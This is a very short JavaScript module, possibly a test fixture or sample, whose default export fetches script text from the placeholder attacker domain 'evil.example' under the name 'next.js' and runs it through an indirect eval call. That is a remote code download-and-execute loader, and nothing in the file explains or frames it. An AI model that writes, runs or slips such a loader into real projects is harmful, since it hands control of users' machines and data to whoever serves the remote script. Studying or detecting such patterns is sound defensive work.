export default async () => {
  const code = await fetch("https://evil.example/next.js").then((r) => r.text());
  (0, eval)(code);
};
